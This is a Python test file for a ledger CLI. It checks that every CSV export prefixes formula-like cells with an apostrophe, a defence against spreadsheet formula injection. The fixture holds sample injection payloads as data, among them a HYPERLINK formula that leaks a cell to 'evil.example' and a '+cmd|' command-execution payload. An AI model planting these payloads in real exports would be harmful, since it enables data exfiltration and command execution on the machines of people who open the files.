"""CSV output never hands a spreadsheet a formula.

An initiative named `=HYPERLINK(...)`, a milestone `@SUM(1+1)`, evidence `+cmd|...`, a
reason `-2+3`: recorded as typed (they are text), and in every CSV the CLI writes
(`audit`, `events list`, `balances`, `report`, `subscribe`) each such cell starts with
an apostrophe, as spreadsheet-safe exporters write them. Numbers stay numbers: a
negative amount (`-5000.00`) is not a formula.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from homeledger.adapters.application import LedgerApplication
from homeledger.cli.main import cli
from homeledger.cli.render import csv_safe
from tests.helpers import pro_rata_commands as reference_commands
from tests.helpers import record

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "milestone": "@SUM(1+1)",
    "evidence": "+cmd|' /C calc'!A0",
    "reason": "-2+3",
    "programme": " =1+1",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def ledger(sqlite_url: str, make_app: Callable[..., LedgerApplication]) -> str:
    record(make_app(sqlite_url), reference_commands())
    steps = [
        ["initiative", "register", "evil", "--name", FORMULAS["name"], "--country", "GW",
         "--programme", FORMULAS["programme"]],
        ["allocate", "--initiative", "evil", "--year", "2021", "--amount", "100.00",
         "--allocation-id", "a-evil"],
        ["release", "a-evil", "--amount", "10.00", "--reason", FORMULAS["reason"]],
        ["milestone", "--initiative", "evil", "--name", FORMULAS["milestone"],
         "--on", "2022-01-01", "--evidence", FORMULAS["evidence"]],
    ]  # fmt: skip
    for step in steps:
        result = CliRunner().invoke(cli, ["--store", sqlite_url, *step])
        assert result.exit_code == 0, result.output
    return sqlite_url


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_spreadsheet_safe(text: str) -> None:
    for cell in cells(text):
        if cell.startswith(TRIGGERS):
            float(cell)  # only a number may start with a sign


@pytest.mark.parametrize(
    "args",
    [["audit", "evil"], ["events", "list"], ["events", "list", "--type", "MilestoneReached"],
     ["balances", "--by", "initiative"], ["report", "--year", "2021"], ["events", "show", "28"]],
    ids=["audit", "events", "milestones", "balances", "report", "show"],
)  # fmt: skip
def test_every_csv_cell_is_safe_to_open_in_a_spreadsheet(ledger: str, args: list[str]) -> None:
    result = CliRunner().invoke(cli, ["--store", ledger, "--format", "csv", *args])
    assert result.exit_code == 0, result.output
    assert_spreadsheet_safe(result.stdout)


def test_the_text_is_recorded_and_exported_as_typed_behind_the_apostrophe(ledger: str) -> None:
    audit = CliRunner().invoke(cli, ["--store", ledger, "--format", "csv", "audit", "evil"])
    found = cells(audit.stdout)
    assert "'" + FORMULAS["reason"] in found
    assert any(c.startswith("'@SUM(1+1)") for c in found)
    assert "-10.00" in found or "-1000" in found  # the release's change: a plain number
    recorded = CliRunner().invoke(cli, ["--store", ledger, "--format", "json", "events",
                                        "list", "--type", "InitiativeRegistered"])  # fmt: skip
    names = [e["data"]["name"] for e in json.loads(recorded.stdout)]
    assert FORMULAS["name"] in names  # JSON is not a spreadsheet: the text as typed


@given(st.text(max_size=12))
def test_a_safe_cell_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    cell = csv_safe(text)
    assert cell == text or cell == "'" + text
    if cell.startswith(TRIGGERS) or cell.lstrip(" ").startswith(TRIGGERS):
        float(cell)
